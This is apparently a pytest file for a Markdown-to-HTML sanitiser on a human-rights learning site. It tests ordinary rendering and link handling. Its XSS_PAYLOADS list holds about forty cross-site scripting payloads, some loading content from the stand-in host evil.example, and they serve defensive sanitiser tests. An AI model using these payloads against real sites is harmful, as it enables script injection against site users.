"""Tests of hrdap.content: Markdown renders, and nothing executable or remote survives."""

from html.parser import HTMLParser

import pytest

from hrdap.content import ALLOWED_TAGS, render_markdown

# Each payload tries to run script, load something remote, or break out of an attribute.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="width: expression(alert(1))">x</p>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&#x3A;alert(1))",
    "[click](java&#9;script:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "![pixel](https://evil.example/x.png)",
    "![pixel][p]\n\n[p]: https://evil.example/x.png",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<!-- <script>alert(1)</script> -->",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '[x](https://ok.example/"onmouseover="alert(1))',
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "*<img src=x onerror=alert(1)>*",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "[x](lesson:a/b\" onclick=\"alert(1))",
]


class _Collector(HTMLParser):
    """Collect every tag and attribute of an HTML fragment, as a browser would parse them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def _parse(html: str) -> _Collector:
    """Parse ``html`` into its tags and attributes."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector


def _scheme(url: str) -> str:
    """The scheme a browser would see: control characters and spaces removed, lower-cased."""
    cleaned = "".join(ch for ch in url if ord(ch) > 32).lower()
    return cleaned.split(":", 1)[0] if ":" in cleaned.split("/", 1)[0] else ""


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_is_neutralised(payload):
    """No script, frame, image, style, form, handler or dangerous URL comes out."""
    html = render_markdown(payload, lambda href: None)
    parsed = _parse(html)
    assert set(parsed.tags) <= ALLOWED_TAGS
    for forbidden in ("<script", "<iframe", "<img", "<svg", "<style", "<object", "<embed",
                      "<form", "<base", "<meta", "<link", "<input"):
        assert forbidden not in html.lower()
    for name, value in parsed.attributes:
        assert not name.startswith("on"), html
        assert name in ("href", "title", "rel", "id"), html
        if name == "href":
            assert _scheme(value) in ("", "http", "https", "mailto"), html


def test_at_least_25_payloads():
    """The list above stays a real test of the sanitiser."""
    assert len(XSS_PAYLOADS) >= 25


def test_raw_html_is_shown_as_text():
    """Raw HTML is never interpreted: what was typed stays visible, escaped."""
    html = render_markdown("Write to <Ministry of Justice> & <b>now</b>")
    assert html == "<p>Write to &lt;Ministry of Justice&gt; &amp; &lt;b&gt;now&lt;/b&gt;</p>"


def test_headings_lists_and_emphasis():
    """Ordinary Markdown renders, with ids on level-2 and level-3 headings."""
    html = render_markdown("# Title\n\n## The Council\n\n### Sessions\n\n- **one**\n- *two*\n\n"
                           "1. first\n2. second\n\n> quoted\n\n---\n\n`code`")
    assert "<h1>Title</h1>" in html
    assert '<h2 id="the-council">The Council</h2>' in html
    assert '<h3 id="sessions">Sessions</h3>' in html
    assert "<li><strong>one</strong></li>" in html and "<li><em>two</em></li>" in html
    assert "<ol>\n<li>first</li>" in html
    assert "<blockquote>\n<p>quoted</p>\n</blockquote>" in html
    assert "<hr>" in html and "<code>code</code>" in html


def test_tables_and_fenced_code():
    """Tables and fenced code render; alignment styles are dropped."""
    html = render_markdown("| Treaty | Committee |\n|:--|--:|\n| CAT | CAT |\n\n```\nx < 1\n```")
    assert "<table>" in html and "<th>Treaty</th>" in html and "<td>CAT</td>" in html
    assert "style" not in html
    assert "<pre><code>x &lt; 1\n</code></pre>" in html


def test_links_get_rel_noopener_noreferrer():
    """Every link, external, autolinked or mail, carries rel="noopener noreferrer"."""
    html = render_markdown("[ISHR](https://ishr.ch \"ISHR\") <https://ohchr.org> <a@b.org>")
    assert html.count('rel="noopener noreferrer"') == 3
    assert '<a href="https://ishr.ch" title="ISHR" rel="noopener noreferrer">ISHR</a>' in html


def test_internal_links_resolve_or_become_text():
    """lesson: and glossary: links go through the resolver; unknown targets become plain text."""
    known = {"lesson:hrc/overview": "/learn/hrc/overview", "glossary:upr": "/glossary#upr"}
    html = render_markdown("[the Council](lesson:hrc/overview), [UPR](glossary:upr), "
                           "[gone](lesson:hrc/gone), [term][t]\n\n[t]: glossary:nothing", known.get)
    assert '<a href="/learn/hrc/overview" rel="noopener noreferrer">the Council</a>' in html
    assert '<a href="/glossary#upr" rel="noopener noreferrer">UPR</a>' in html
    assert "gone" in html and "term" in html
    assert html.count("<a ") == 2 and "lesson:" not in html and "glossary:" not in html


def test_internal_links_without_resolver_are_text():
    """Without a resolver, internal links are shown as their text only."""
    assert render_markdown("[UPR](glossary:upr)") == "<p>UPR</p>"
